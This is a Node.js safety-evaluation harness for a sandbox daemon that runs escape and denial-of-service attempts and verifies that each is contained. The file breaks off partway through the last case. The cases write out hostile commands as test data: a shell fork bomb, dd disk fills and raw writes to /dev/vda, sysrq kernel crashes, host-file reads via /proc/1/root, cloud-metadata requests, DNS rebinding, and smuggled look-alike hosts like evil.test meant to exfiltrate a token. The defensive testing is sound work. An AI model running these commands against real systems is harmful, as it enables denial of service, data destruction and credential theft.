#!/usr/bin/env node
// Sandbox safety harness: escape and denial-of-service attempts against a real sandbox
// daemon (started in this process, qemu backend, jailed when run as root). Each case
// states its expected outcome, runs the attack, and checks the far end where one exists
// (host listeners for network reach, host files for escapes, the daemon's memory), then
// a bystander sandbox must still answer. Every case must be contained.
//
//   node eval/run.mjs                 all cases; writes docs/safety-eval.md
//   node eval/run.mjs --short         the quick subset run by `npm test` (no report file)
//   node eval/run.mjs --json          machine-readable results on stdout
//   node eval/run.mjs --only NAME     one case (repeatable)
import { randomBytes } from 'node:crypto';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { networkInterfaces, tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { createSandboxServer, imageCacheDir, SandboxClient, SandboxManager } from '@airlock/sandbox';

const here = dirname(fileURLToPath(import.meta.url));
const args = process.argv.slice(2);
const short = args.includes('--short');
const json = args.includes('--json');
const only = args.flatMap((a, i) => (a === '--only' ? [args[i + 1]] : []));

const MAX_SANDBOXES = 5;

/** Host TCP listeners that count connections: the far end of every network attempt. */
async function listeners() {
  const seen = [];
  const servers = [];
  const listen = (host) =>
    new Promise((resolve) => {
      const s = createServer((c) => {
        seen.push(`${host} from ${c.remoteAddress}`);
        c.destroy();
      });
      s.listen(0, host, () => resolve(s.address().port));
      servers.push(s);
    });
  const loopbackPort = await listen('127.0.0.1');
  const anyPort = await listen('0.0.0.0');
  const hostIps = Object.values(networkInterfaces())
    .flat()
    .filter((a) => a && a.family === 'IPv4' && !a.internal)
    .map((a) => a.address);
  return {
    seen,
    loopbackPort,
    anyPort,
    hostIps,
    close: () => {
      for (const s of servers) s.close();
    },
  };
}

/**
 * The far end for egress: servers in a network namespace (packages/sandbox/src/testing/egress-far.ts)
 * that record every connection and request, a test DNS server the daemon resolves with (its table
 * is changed during the case: rebinding), and one private address (10.255.77.1) routed to the far
 * end, so a rebinding to it that got through would show up in the far end's counters. Needs root.
 */
async function startEgressEnv() {
  if (process.getuid?.() !== 0) return undefined;
  const { startFarEnd, startTestDns } = await import('../packages/sandbox/dist/testing/egress-far.js');
  const { execFileSync } = await import('node:child_process');
  const far = await startFarEnd();
  const internalFar = '10.255.77.1';
  const ns = `alfar${process.pid}`;
  try {
    execFileSync('ip', ['-n', ns, 'addr', 'add', `${internalFar}/32`, 'dev', 'alfar0']);
    execFileSync('ip', ['route', 'replace', `${internalFar}/32`, 'via', far.address]);
  } catch (e) {
    await far.close();
    throw e;
  }
  const dnsTable = { 'bound.test': [far.address], 'evil.test': [far.address] };
  const dns = await startTestDns(dnsTable);
  return {
    far,
    dns,
    dnsTable,
    internalFar,
    async close() {
      await dns.close();
      // The route goes with the veth, which goes with the namespace.
      await far.close();
    },
  };
}

/** @typedef {{ client: SandboxClient, manager: SandboxManager, stateDir: string, py: string, sh: string, bystander: string, create: (body: object) => Promise<any>, egressEnv?: Awaited<ReturnType<typeof startEgressEnv>> }} Ctx */
/** @typedef {{ name: string, attack: string, expected: string, short?: boolean, run: (ctx: Ctx) => Promise<{ contained: boolean, observed: string }> }} Case */

const ok = (cond, observed) => ({ contained: Boolean(cond), observed });

/** @type {Case[]} */
const cases = [
  {
    name: 'fork bomb',
    short: true,
    attack: 'a shell fork bomb `b() { b | b & }; b` with a 5 s timeout',
    expected:
      'forks fail past max_procs (guest cgroup pids.max); the exec is killed at its timeout with its whole cgroup; nothing of it is left; the sandbox answers',
    async run({ client, sh }) {
      const r = await client.exec(sh, { code: 'b() { b | b & }; b; sleep 60', timeout_ms: 5000 });
      const after = await client.exec(sh, { argv: ['/bin/cat', '/sys/fs/cgroup/exec/pids.current'] });
      const left = Number(after.stdout.trim());
      return ok(r.timed_out && left <= 2, `timed_out=${r.timed_out}, guest processes left afterwards: ${left}`);
    },
  },
  {
    name: 'memory bomb',
    attack: 'python appending 8 MiB blocks forever in a 192 MiB guest',
    expected:
      'the guest OOM killer ends the process (exit 137 or MemoryError); the VM monitor stays within its host cgroup memory limit; the sandbox answers',
    async run({ client, py }) {
      const r = await client.exec(py, { code: 'x = []\nwhile True: x.append(bytearray(8 << 20))', timeout_ms: 60_000 });
      const pid = Number((await client.inspect(py)).vm_pid);
      const rssKb = Number(/VmRSS:\s+(\d+)/.exec(readFileSync(`/proc/${pid}/status`, 'utf8'))?.[1] ?? 0);
      const again = await client.exec(py, { code: 'print(1)' });
      return ok(
        (r.exit_code === 137 || /MemoryError/.test(r.stderr)) && again.stdout === '1\n' && rssKb < (192 + 192) * 1024,
        `exit ${r.exit_code}${/MemoryError/.test(r.stderr) ? ' (MemoryError)' : ''}, monitor RSS ${Math.round(rssKb / 1024)} MiB`,
      );
    },
  },
  {
    name: 'disk fill',
    short: true,
    attack: '`dd if=/dev/zero of=/root/fill` until it stops',
    expected:
      'ENOSPC at the writable layer size (rw_mb tmpfs inside the guest); no host disk is written; the sandbox answers',
    async run({ client, sh }) {
      const r = await client.exec(sh, {
        code: 'dd if=/dev/zero of=/root/fill bs=1M 2>&1 | grep -i -m1 space; df -m / | tail -1; rm -f /root/fill',
        timeout_ms: 60_000,
      });
      return ok(/No space left/.test(r.stdout), r.stdout.trim().split('\n').join(' | '));
    },
  },
  {
    name: 'output flood',
    short: true,
    attack: '`yes` with max_output_bytes 100000',
    expected: 'output past the cap is dropped in the guest and again on the host; `truncated: true`',
    async run({ client, sh }) {
      const r = await client.exec(sh, { code: 'yes airlock', timeout_ms: 3000, max_output_bytes: 100_000 });
      return ok(r.truncated && r.stdout.length <= 100_000, `truncated=${r.truncated}, ${r.stdout.length} bytes kept`);
    },
  },
  {
    name: 'single 100 MB line',
    short: true,
    attack: 'python writes 100,000,000 bytes with no newline, in 1 MB pieces (default 1 MiB cap)',
    expected: 'truncated at the cap; the daemon never buffers the line (its memory grows by far less than 100 MB)',
    async run({ client, py }) {
      const before = process.memoryUsage().rss;
      const r = await client.exec(py, {
        code: "import sys\nfor _ in range(100): sys.stdout.write('x' * 1_000_000)",
        timeout_ms: 120_000,
      });
      const grown = (process.memoryUsage().rss - before) / 2 ** 20;
      return ok(
        r.truncated && r.stdout.length === 1 << 20 && grown < 64,
        `truncated=${r.truncated}, ${r.stdout.length} bytes kept, daemon RSS +${grown.toFixed(0)} MiB`,
      );
    },
  },
  {
    name: 'infinite loop past timeout',
    short: true,
    attack: '`while True: pass` with timeout_ms 2000',
    expected: 'killed at the timeout: `timed_out: true`, exit 137; the sandbox answers',
    async run({ client, py }) {
      const r = await client.exec(py, { code: 'while True: pass', timeout_ms: 2000 });
      return ok(
        r.timed_out && r.exit_code === 137,
        `timed_out=${r.timed_out}, exit ${r.exit_code}, ${r.duration_ms} ms`,
      );
    },
  },
  {
    name: 'kill PID 1 and the agent',
    short: true,
    attack: '`kill -9 1; kill -SEGV 1; kill -STOP 1; kill -9 -1` (the agent is PID 1)',
    expected: 'PID 1 ignores signals it has no handler for; kill -1 ends only guest code; the agent keeps answering',
    async run({ client, sh }) {
      await client.exec(sh, { code: 'kill -9 1; kill -SEGV 1; kill -STOP 1; kill -9 -1; sleep 1' }).catch(() => {});
      const r = await client.exec(sh, { code: 'echo alive' });
      return ok(r.stdout === 'alive\n', `after the signals: ${JSON.stringify(r.stdout)}`);
    },
  },
  {
    name: 'guest kernel crash',
    attack: '`echo c > /proc/sysrq-trigger` in a fresh sandbox',
    expected: 'only that sandbox fails (state `failed`, VM reaped); the bystander and the daemon are unaffected',
    async run({ client, create }) {
      const sb = await create({ language_pack: 'shell' });
      await client.exec(sb.id, { code: 'echo c > /proc/sysrq-trigger' }).catch(() => {});
      let state = '';
      for (let i = 0; i < 50 && state !== 'failed'; i++) {
        await new Promise((r) => setTimeout(r, 200));
        state = (await client.inspect(sb.id)).state;
      }
      return ok(state === 'failed', `crashed sandbox state: ${state}`);
    },
  },
  {
    name: 'read host files',
    short: true,
    attack:
      'look for a marker file the harness wrote on the host, through /proc/1/root, a full `find /`, /dev devices and the kernel image',
    expected:
      'no host file is reachable: /proc/1/root is the guest root; the only disk is the read-only pack image; no kernel image or host device in the guest',
    async run({ client, sh }) {
      const marker = `airlock-marker-${randomBytes(6).toString('hex')}`;
      const hostFile = join(tmpdir(), marker);
      writeFileSync(hostFile, 'host secret');
      try {
        const r = await client.exec(sh, {
          code: [
            `ls /proc/1/root${tmpdir()}/${marker} 2>&1`,
            `find / -xdev -name '${marker}' 2>/dev/null | head -1`,
            'echo ---; ls /dev | tr "\\n" " "',
            'echo; echo ---; ls /boot /vmlinuz /lib/modules 2>&1 | tr "\\n" " "',
            'echo; echo ---; dd if=/dev/zero of=/dev/vda bs=512 count=1 2>&1 | head -1',
          ].join('; '),
          timeout_ms: 60_000,
        });
        const [found = '', devs = '', kernel = '', write = ''] = r.stdout.split('---');
        const hostDevices = devs.split(/\s+/).filter((d) => /^(sd|nvme|xvd|kvm|vhost|net|fuse)/.test(d));
        const contained =
          !found.includes('host secret') &&
          !/^\//m.test(found.replace(/^ls: .*$/gm, '')) &&
          hostDevices.length === 0 &&
          !/vmlinuz-|bzImage/.test(kernel) &&
          /(Read-only|Operation not permitted|Permission denied)/i.test(write);
        return ok(
          contained,
          `marker not found; devices: ${devs.trim().split(/\s+/).length} guest nodes (no host disks); writing /dev/vda: ${write.trim()}`,
        );
      } finally {
        rmSync(hostFile, { force: true });
      }
    },
  },
  {
    name: 'network reach',
    short: true,
    attack:
      "TCP to 1.1.1.1:53, to the host's loopback and external addresses (ports the harness listens on), QEMU's user-net gateway 10.0.2.2, the egress proxy endpoint 127.0.0.1:3128 (this sandbox has no egress: the default), and a DNS lookup",
    expected:
      'every attempt fails in the guest (no network device but lo) AND the host listeners see no connection (checked at the far end)',
    async run({ client, py }) {
      const l = await listeners();
      try {
        const targets = [
          ['1.1.1.1', 53],
          ['10.0.2.2', l.loopbackPort],
          ['127.0.0.1', l.loopbackPort],
          ['127.0.0.1', 3128],
          ...l.hostIps.map((ip) => [ip, l.anyPort]),
        ];
        const code = [
          'import socket, os',
          `for h, p in ${JSON.stringify(targets)}:`,
          '    try:',
          "        socket.create_connection((h, p), timeout=2); print('CONNECTED', h, p)",
          '    except OSError as e:',
          "        print('refused', h, p, e.errno)",
          'try:',
          "    print('RESOLVED', socket.gethostbyname('example.com'))",
          'except OSError as e:',
          "    print('dns failed', e.errno)",
          "print('interfaces', ' '.join(sorted(os.listdir('/sys/class/net'))))",
        ].join('\n');
        const r = await client.exec(py, { code, timeout_ms: 60_000 });
        await new Promise((res) => setTimeout(res, 500));
        const contained =
          !/CONNECTED|RESOLVED/.test(r.stdout) && /interfaces lo\n/.test(r.stdout) && l.seen.length === 0;
        return ok(
          contained,
          `${targets.length} targets refused in the guest, DNS failed, interfaces: lo; host listeners saw ${l.seen.length} connection(s)`,
        );
      } finally {
        l.close();
      }
    },
  },
  {
    name: 'egress beyond the allowlist',
    attack:
      'a sandbox with egress (allowlist: bound.test:443 only, a far end in a network namespace; secret API_TOKEN bound to bound.test) tries, through the proxy: ports 80/81/9000 of the allowed host, IP literals of the host (loopback in five spellings, its own address, the far end by address, metadata 169.254.169.254), look-alike names (`bound.test.evil.test`, `bound.test@evil.test`); DNS rebinding of bound.test to 127.0.0.1, 10.255.77.1 (routed to the far end), 169.254.169.254 and a mixed public+private answer; inside an intercepted CONNECT to bound.test:443, the placeholder under a foreign `Host:` header, in an absolute-form `http://evil.test/` request, in the URL and the body; a flood of 150 CONNECTs; and, around the proxy, raw TCP to the far end, the host, 10.0.2.2, metadata and 1.1.1.1',
    expected:
      'the far end gets exactly the allowed HTTPS requests on 443 plus at most one accept per flood connection the rate limit let through (and one TLS handshake without a request for each in-tunnel request refused as misdirected: 421, a foreign Host or absolute-form target never leaves the proxy); its accept counters for 80, 81 and 9000 stay 0; the secret value arrives only on 443 in origin-form requests with `Host: bound.test` (URL and body keep the placeholder); host loopback listeners (including 127.0.0.1:443) see nothing; every refused proxy attempt has a refused event with its reason (not on the allowlist, or the rebound address and its range); flood connections past 20/s (burst 40) or past 64 open streams are closed unread and reported in at most one event per second per reason, and each flood connection the guest closes is released on the host (no egress stream left open); every raw connect fails (only lo); afterwards the sandbox still gets through to bound.test and the bystander answers',
    async run({ client, create, manager, egressEnv }) {
      if (!egressEnv) return ok(false, 'no far end: this case needs root (ip netns)');
      const { far, dnsTable, internalFar } = egressEnv;
      const SECRET = `sk-eval-${randomBytes(12).toString('hex')}`;
      const l = await listeners();
      // Host loopback on the allowed port: where a loopback rebinding would land.
      const extra = [];
      const loopSeen = [];
      for (const port of [443, 80]) {
        const s = createServer((c) => {
          loopSeen.push(`127.0.0.1:${port} from ${c.remoteAddress}`);
          c.destroy();
        });
        const bound = await new Promise((res) => {
          s.once('error', () => res(false));
          s.listen(port, '127.0.0.1', () => res(true));
        });
        if (bound) extra.push(s);
      }
      const setDns = async (addrs) => {
        dnsTable['bound.test'] = addrs;
        // The daemon's resolver caches answers for their TTL (5 s in the test DNS).
        await new Promise((r) => setTimeout(r, 5600));
      };
      try {
        const sb = await create({
          language_pack: 'python',
          egress: {
            allow: ['bound.test:443'],
            secrets: [{ name: 'API_TOKEN', value: SECRET, hosts: ['bound.test'] }],
          },
        });
        const lp = l.loopbackPort;
        // Refused before anything is dialled: [label, request, host, port as logged].
        const viaProxy = [
          ['allowed host, port 80', 'CONNECT bound.test:80 HTTP/1.1\r\n\r\n', 'bound.test', 80],
          ['allowed host, port 81', 'CONNECT bound.test:81 HTTP/1.1\r\n\r\n', 'bound.test', 81],
          ['allowed host, port 9000', 'CONNECT bound.test:9000 HTTP/1.1\r\n\r\n', 'bound.test', 9000],
          [
            'plain http, port 80',
            'GET http://bound.test/ HTTP/1.1\r\nAuthorization: Bearer TOK\r\n\r\n',
            'bound.test',
            80,
          ],
          ['plain http, port 81', 'GET http://bound.test:81/ HTTP/1.1\r\n\r\n', 'bound.test', 81],
          ['loopback literal', `CONNECT 127.0.0.1:${lp} HTTP/1.1\r\n\r\n`, '127.0.0.1', lp],
          ['loopback literal, plain', `GET http://127.0.0.1:${lp}/ HTTP/1.1\r\n\r\n`, '127.0.0.1', lp],
          ['loopback on the allowed port', 'CONNECT 127.0.0.1:443 HTTP/1.1\r\n\r\n', '127.0.0.1', 443],
          ['localhost', 'CONNECT localhost:443 HTTP/1.1\r\n\r\n', 'localhost', 443],
          ['short loopback form', 'CONNECT 127.1:443 HTTP/1.1\r\n\r\n', '127.1', 443],
          ['decimal loopback', 'CONNECT 2130706433:443 HTTP/1.1\r\n\r\n', '2130706433', 443],
          ['IPv6 loopback', `CONNECT [::1]:${lp} HTTP/1.1\r\n\r\n`, '::1', lp],
          ['IPv4-mapped loopback', `CONNECT [::ffff:127.0.0.1]:${lp} HTTP/1.1\r\n\r\n`, '::ffff:127.0.0.1', lp],
          ['metadata literal', 'CONNECT 169.254.169.254:80 HTTP/1.1\r\n\r\n', '169.254.169.254', 80],
          ['metadata, plain', 'GET http://169.254.169.254/latest/meta-data/ HTTP/1.1\r\n\r\n', '169.254.169.254', 80],
          ['metadata, mapped', 'CONNECT [::ffff:a9fe:a9fe]:80 HTTP/1.1\r\n\r\n', '::ffff:a9fe:a9fe', 80],
          ['far end by address', `CONNECT ${far.address}:443 HTTP/1.1\r\n\r\n`, far.address, 443],
          ['look-alike suffix', 'CONNECT bound.test.evil.test:443 HTTP/1.1\r\n\r\n', 'bound.test.evil.test', 443],
          [
            'userinfo trick',
            'GET http://bound.test@evil.test:443/ HTTP/1.1\r\nAuthorization: Bearer TOK\r\n\r\n',
            'bound.test@evil.test',
            443,
          ],
          ...l.hostIps.map((ip) => [
            `host address ${ip}`,
            `CONNECT ${ip}:${l.anyPort} HTTP/1.1\r\n\r\n`,
            ip,
            l.anyPort,
          ]),
        ];
        // Inside an intercepted CONNECT to bound.test:443 (TLS with the sandbox's CA).
        const inTunnel = [
          ['legit', 'GET /eval-legit HTTP/1.1\r\nHost: bound.test\r\nAuthorization: Bearer TOK\r\n\r\n'],
          ['foreign Host header', 'GET /eval-fronted HTTP/1.1\r\nHost: evil.test\r\nAuthorization: Bearer TOK\r\n\r\n'],
          [
            'absolute-form to another host',
            'GET http://evil.test/eval-absolute HTTP/1.1\r\nAuthorization: Bearer TOK\r\n\r\n',
          ],
          [
            'placeholder in URL and body',
            'POST /eval-url?key=TOK HTTP/1.1\r\nHost: bound.test\r\nContent-Length: LEN\r\n\r\nbody=TOK',
          ],
        ];
        const raw = [
          [far.address, 443],
          [far.address, 80],
          [far.address, 81],
          [far.address, 9000],
          [internalFar, 443],
          ['127.0.0.1', lp],
          ['127.0.0.1', 443],
          ['10.0.2.2', lp],
          ['169.254.169.254', 80],
          ['1.1.1.1', 53],
          ...l.hostIps.map((ip) => [ip, l.anyPort]),
        ];
        const prelude = [
          'import json, os, socket, ssl, time, urllib.request, urllib.error',
          "tok = os.environ['API_TOKEN']",
          'def head(s):',
          "    buf = b''",
          "    while b'\\r\\n\\r\\n' not in buf:",
          '        d = s.recv(4096)',
          '        if not d: break',
          '        buf += d',
          '    return buf',
          'def via_proxy(req):',
          '    try:',
          "        s = socket.create_connection(('127.0.0.1', 3128), timeout=30)",
          "        s.sendall(req.replace('TOK', tok).encode())",
          "        line = head(s).split(b'\\r\\n')[0].decode() or 'closed'",
          '        s.close()',
          '        return line',
          '    except OSError as e:',
          "        return 'error %r' % e",
          'def https_get(path):',
          '    try:',
          "        req = urllib.request.Request('https://bound.test' + path, headers={'Authorization': 'Bearer ' + tok})",
          '        with urllib.request.urlopen(req, timeout=60) as r:',
          "            return '%d %s' % (r.status, r.read().decode())",
          '    except urllib.error.HTTPError as e:',
          '        return str(e.code)',
          '    except Exception as e:',
          "        return 'error %r' % e",
        ];
        const phase1 = [
          ...prelude,
          'def in_tunnel(req):',
          "    req = req.replace('TOK', tok)",
          "    if 'LEN' in req: req = req.replace('LEN', str(len(req.split('\\r\\n\\r\\n', 1)[1])))",
          '    try:',
          "        s = socket.create_connection(('127.0.0.1', 3128), timeout=60)",
          "        s.sendall(b'CONNECT bound.test:443 HTTP/1.1\\r\\nHost: bound.test:443\\r\\n\\r\\n')",
          '        h = head(s)',
          "        if not h.startswith(b'HTTP/1.1 200'): return 'tunnel refused ' + h[:60].decode()",
          "        t = ssl.create_default_context(cafile=os.environ['SSL_CERT_FILE']).wrap_socket(s, server_hostname='bound.test')",
          '        t.sendall(req.encode())',
          "        resp = b''",
          '        try:',
          '            while True:',
          '                d = t.recv(65536)',
          '                if not d: break',
          '                resp += d',
          '        except ssl.SSLError:',
          '            pass',
          "        status, _, body = resp.partition(b'\\r\\n\\r\\n')",
          "        return status.split(b'\\r\\n')[0].decode() + ' ' + body[:80].decode()",
          '    except Exception as e:',
          "        return 'error %r' % e",
          'def raw(h, p):',
          '    try:',
          "        socket.create_connection((h, p), timeout=3).close(); return 'CONNECTED'",
          '    except OSError as e:',
          "        return 'errno %s' % e.errno",
          `proxy = [via_proxy(r) for _, r, _, _ in ${JSON.stringify(viaProxy)}]`,
          `tunnel = [in_tunnel(r) for _, r in ${JSON.stringify(inTunnel)}]`,
          `rawr = [raw(h, p) for h, p in ${JSON.stringify(raw)}]`,
          "print(json.dumps({'token': tok, 'proxy': proxy, 'tunnel': tunnel, 'raw': rawr, 'ifaces': sorted(os.listdir('/sys/class/net'))}))",
        ].join('\n');
        const r1 = await client.exec(sb.id, { code: phase1, timeout_ms: 300_000 });
        const p1 = JSON.parse(r1.stdout || '{}');
        const problems = [];
        if (!p1.proxy) return ok(false, `guest script failed: ${r1.stderr.slice(-400)}`);
        viaProxy.forEach(([label], i) => {
          if (!/^HTTP\/1\.1 403/.test(p1.proxy[i])) problems.push(`${label}: ${p1.proxy[i]}`);
        });
        const tunnelOk = p1.tunnel.filter((t) => /^HTTP\/1\.1 200/.test(t)).length;
        raw.forEach(([h, p], i) => {
          if (p1.raw[i] === 'CONNECTED') problems.push(`raw connect to ${h}:${p} succeeded`);
        });
        if (p1.ifaces.join(' ') !== 'lo') problems.push(`interfaces: ${p1.ifaces.join(' ')}`);

        // DNS rebinding of the allowed name (each answer after the resolver's cache expired).
        const rebinds = [['127.0.0.1'], [internalFar], ['169.254.169.254'], [far.address, internalFar]];
        const rebindSeen = [];
        for (const [i, addrs] of rebinds.entries()) {
          await setDns(addrs);
          const r = await client.exec(sb.id, {
            code: [...prelude, `print(https_get('/eval-rebind-${i}'))`].join('\n'),
            timeout_ms: 120_000,
          });
          rebindSeen.push(r.stdout.trim());
          if (!/403/.test(r.stdout) || /^200/.test(r.stdout))
            problems.push(`rebinding to ${addrs}: ${r.stdout.trim()}`);
        }
        await setDns([far.address]);

        // Connect flood: 150 CONNECTs to the allowed target, 30 open at a time (the guest caps streams at 64).
        const flood = [
          ...prelude,
          'granted = closed = other = 0',
          't0 = time.time()',
          'for b in range(5):',
          '    socks = []',
          '    for i in range(30):',
          '        try:',
          "            s = socket.create_connection(('127.0.0.1', 3128), timeout=20)",
          "            s.sendall(b'CONNECT bound.test:443 HTTP/1.1\\r\\n\\r\\n')",
          '            socks.append(s)',
          '        except OSError:',
          '            other += 1',
          '    for s in socks:',
          '        try:',
          "            line = head(s).split(b'\\r\\n')[0]",
          '        except OSError:',
          "            line = b'error'",
          "        if line.startswith(b'HTTP/1.1 200'): granted += 1",
          "        elif line == b'': closed += 1",
          '        else: other += 1',
          '        s.close()',
          "print(json.dumps({'granted': granted, 'closed': closed, 'other': other, 'seconds': time.time() - t0}))",
        ].join('\n');
        const before443 = far.accepts(443);
        const fr = await client.exec(sb.id, { code: flood, timeout_ms: 300_000 });
        const f = JSON.parse(fr.stdout || '{}');
        if (f.granted === undefined) return ok(false, `flood script failed: ${fr.stderr.slice(-400)}`);
        // Limited connections are reported once a second; then let the bucket refill.
        await new Promise((r) => setTimeout(r, 3000));
        const floodAccepts = far.accepts(443) - before443;
        // Every flood connection was closed by the guest: nothing of it may stay open on the host.
        const leftOpen = manager.get(sb.id).egress?.openStreams ?? -1;
        if (leftOpen !== 0)
          problems.push(`flood: ${leftOpen} egress stream(s) still open on the host after the guest closed them all`);
        const budget = 40 + Math.ceil(20 * (f.seconds + 1));
        if (f.granted > budget)
          problems.push(`flood: ${f.granted} granted in ${f.seconds.toFixed(1)} s (budget ${budget})`);
        if (f.closed === 0) problems.push('flood: nothing was rate limited');
        if (floodAccepts > f.granted) problems.push(`flood: far end accepted ${floodAccepts} > ${f.granted} granted`);

        const after = await client.exec(sb.id, {
          code: [...prelude, "print(https_get('/eval-after'))"].join('\n'),
          timeout_ms: 120_000,
        });
        if (!/^200 far:443:\/eval-after/.test(after.stdout)) problems.push(`after the flood: ${after.stdout.trim()}`);
        await new Promise((r) => setTimeout(r, 500));

        // The far end: ports, where the secret went, and that the placeholder stayed in URL and body.
        for (const port of [80, 81, 9000])
          if (far.accepts(port) > 0) problems.push(`far end port ${port} accepted ${far.accepts(port)}`);
        const http443 = far.records.filter((x) => x.kind === 'http');
        const withSecret = http443.filter((x) => JSON.stringify(x).includes(SECRET));
        for (const x of withSecret)
          if (x.port !== 443 || x.headers?.host !== 'bound.test' || !x.url?.startsWith('/'))
            problems.push(`secret sent in ${x.method} ${x.url} with Host: ${x.headers?.host} on port ${x.port}`);
        for (const x of http443.filter((y) => y.port !== 443))
          problems.push(`far end got ${x.method} ${x.url} on ${x.port}`);
        const legit = http443.find((x) => x.url === '/eval-legit');
        if (legit?.headers?.authorization !== `Bearer ${SECRET}`)
          problems.push('the legit request did not carry the secret');
        const inUrl = http443.find((x) => x.url?.startsWith('/eval-url'));
        if (inUrl && (inUrl.url.includes(SECRET) || !inUrl.url.includes(p1.token) || !inUrl.body?.includes(p1.token)))
          problems.push(`URL/body: ${inUrl.url} ${inUrl.body}`);
        // A request refused inside an intercepted CONNECT (misdirected) was refused after the
        // proxy had verified the real server: one TLS handshake, no request, reached the far end.
        const misdirected = (await client.egress(sb.id)).events.filter(
          (x) => x.intercepted && /^misdirected request/.test(x.reason),
        ).length;
        const unexplained = far.accepts(443) - http443.length - floodAccepts - misdirected;
        if (unexplained !== 0)
          problems.push(`far end: ${unexplained} accept(s) on 443 without a request or flood connection`);
        const hostSeen = [...l.seen, ...loopSeen];
        if (hostSeen.length > 0) problems.push(`host listeners saw: ${hostSeen.join(', ')}`);

        // The sandbox's egress log: a refusal with its reason for every attempt refused.
        const report = await client.egress(sb.id);
        const events = report.events;
        if (JSON.stringify(report).includes(SECRET)) problems.push('the egress report shows the secret');
        for (const [label, , host, port] of viaProxy) {
          const e = events.find((x) => x.host === host && x.port === port && x.decision === 'refused');
          if (!e?.reason) problems.push(`no refused event for ${label} (${host}:${port})`);
        }
        const rebound = events.filter(
          (x) => x.host === 'bound.test' && x.decision === 'refused' && /resolves to/.test(x.reason),
        );
        for (const want of [/127\.0\.0\.1: loopback/, /10\.255\.77\.1: private/, /169\.254\.169\.254: cloud metadata/])
          if (!rebound.some((x) => want.test(x.reason))) problems.push(`no rebinding refusal matching ${want}`);
        const limitedEvents = events.filter((x) => /connection attempt\(s\) closed unread$/.test(x.reason));
        const limitedCount = limitedEvents.reduce((n, x) => n + Number(/(\d+) connection/.exec(x.reason)?.[1] ?? 0), 0);
        if (limitedCount !== f.closed)
          problems.push(`rate-limit events count ${limitedCount}, guest saw ${f.closed} closed`);
        return ok(
          problems.length === 0,
          `${viaProxy.length} proxy attempts 403 and logged; ${tunnelOk}/${inTunnel.length} in-tunnel requests answered, secret seen at the far end in ${withSecret.length} request(s): ` +
            `${withSecret.map((x) => `${x.url} Host: ${x.headers?.host}`).join(', ')}; ` +
            `rebinding (${rebinds.length} answers) refused: ${rebound.map((x) => x.reason.replace(/^bound\.test resolves to /, '')).join('; ')}; ` +
            `flood: ${f.granted} of 150 let through in ${f.seconds.toFixed(1)} s, ${f.closed} closed unread, ${f.other} reset or failed (${limitedCount} reported as rate limited, in ${limitedEvents.length} event(s)), ${leftOpen} stream(s) left open on the host; ` +
            `far end accepts 80/81/9000: ${far.accepts(80)}/${far.accepts(81)}/${far.accepts(9000)}, 443: ${far.accepts(443)} (${http443.length} requests + ${floodAccepts} flood); ` +
            `${raw.length} raw connects failed (${[...new Set(p1.raw)].join(', ')}), interfaces: ${p1.ifaces.join(' ')}; host listeners saw ${hostSeen.length}; afterwards: ${after.stdout.trim().slice(0, 40)}` +
            (problems.length ? `; PROBLEMS: ${problems.join('; ')}` : ''),
        );
      } finally {
        dnsTable['bound.test'] = [far.address];
        l.close();
        for (const s of extra) s.close();
      }
    },
  },
  {
    name: 'clock abuse',
    attack: '`date -s 2001-01-01` in the guest, then a timed exec, then a fresh sandbox',
    expected:
      "the guest's wall clock is its own: the host's is untouched, exec timeouts (monotonic) still fire, and every new sandbox is handed the host's time",
    async run({ client, sh, create }) {
      const hostBefore = Date.now();
      const set = await client.exec(sh, { code: 'date -s "2001-01-01 00:00:00" >/dev/null; date +%Y' });
      const timed = await client.exec(sh, { argv: ['/bin/sleep', '30'], timeout_ms: 1500 });
      const hostOk = Math.abs(Date.now() - hostBefore) < 120_000;
      const fresh = await create({ language_pack: 'shell' });
      const guestNow = Number((await client.exec(fresh.id, { code: 'date +%s' })).stdout.trim()) * 1000;
      const skew = Math.abs(guestNow - Date.now());
      return ok(
        set.stdout.trim() === '2001' && timed.timed_out && hostOk && skew < 60_000,
        `guest year set to ${set.stdout.trim()}, timeout still fired: ${timed.timed_out}, new sandbox clock off by ${(skew / 1000).toFixed(1)} s`,
      );
    },
  },
  {
    name: 'leftover processes after exec',
    short: true,
    attack: '`sleep 300 &`, `setsid sleep 301 &` and a double-forked `nohup` daemon, then the exec returns',
    expected:
      'everything the exec started is killed when it ends (its guest cgroup is killed), even what left its session',
    async run({ client, sh }) {
      await client.exec(sh, {
        code: 'sleep 300 & setsid sleep 301 & (nohup sleep 302 >/dev/null 2>&1 &) ; echo started',
      });
      let left = '';
      for (let i = 0; i < 20; i++) {
        left = (await client.exec(sh, { code: 'ps | grep "sleep 30[0-2]" || true' })).stdout.trim();
        if (!left) break;
        await new Promise((r) => setTimeout(r, 250));
      }
      return ok(left === '', left ? `still running: ${left}` : 'none left');
    },
  },
  {
    name: 'hijack the control channel',
    short: true,
    attack:
      'open the virtio port to write frames to the host, and print bytes that look like a frame header with a huge length',
    expected:
      'the port is held exclusively by the agent (EBUSY); frame-like output is only stdout data inside a well-formed frame; the channel is unaffected',
    async run({ client, sh }) {
      const r = await client.exec(sh, {
        code: "printf '\\377\\377\\377\\177' > /dev/$(basename $(dirname $(grep -l airlock.ctl /sys/class/virtio-ports/*/name))) 2>&1; printf '\\377\\377\\377\\177\\201'",
      });
      const again = await client.exec(sh, { code: 'echo fine' });
      return ok(
        /busy/i.test(r.stdout + r.stderr) && again.stdout === 'fine\n',
        `opening the port: ${(r.stderr.split('\n')[0] ?? '').slice(0, 100)}; frame-like bytes arrived as ${r.stdout.length} bytes of stdout; channel still answers`,
      );
    },
  },
  {
    name: 'crafted frames from a compromised guest',
    short: true,
    attack:
      'a fake guest agent (standing in for a subverted guest kernel) answers with an oversized length header, an unknown frame type, and half a frame followed by a hang-up',
    expected:
      'each fails the request in flight with `guest_protocol`, the host drops and re-handshakes the connection, and never allocates for the claimed length',
    async run() {
      const { GuestChannel } = await import('../packages/sandbox/dist/guest/channel.js');
      const { connectUnix } = await import('../packages/sandbox/dist/backends/process-util.js');
      const { FrameSplitter, T } = await import('../packages/sandbox/dist/guest/protocol.js');
      const dir = mkdtempSync(join(tmpdir(), 'aleval-'));
      const path = join(dir, 'ctl.sock');
      const frame = (type, id, payload = Buffer.alloc(0)) => {
        const b = Buffer.alloc(9 + payload.length);
        b.writeUInt32LE(5 + payload.length, 0);
        b.writeUInt8(type, 4);
        b.writeUInt32LE(id, 5);
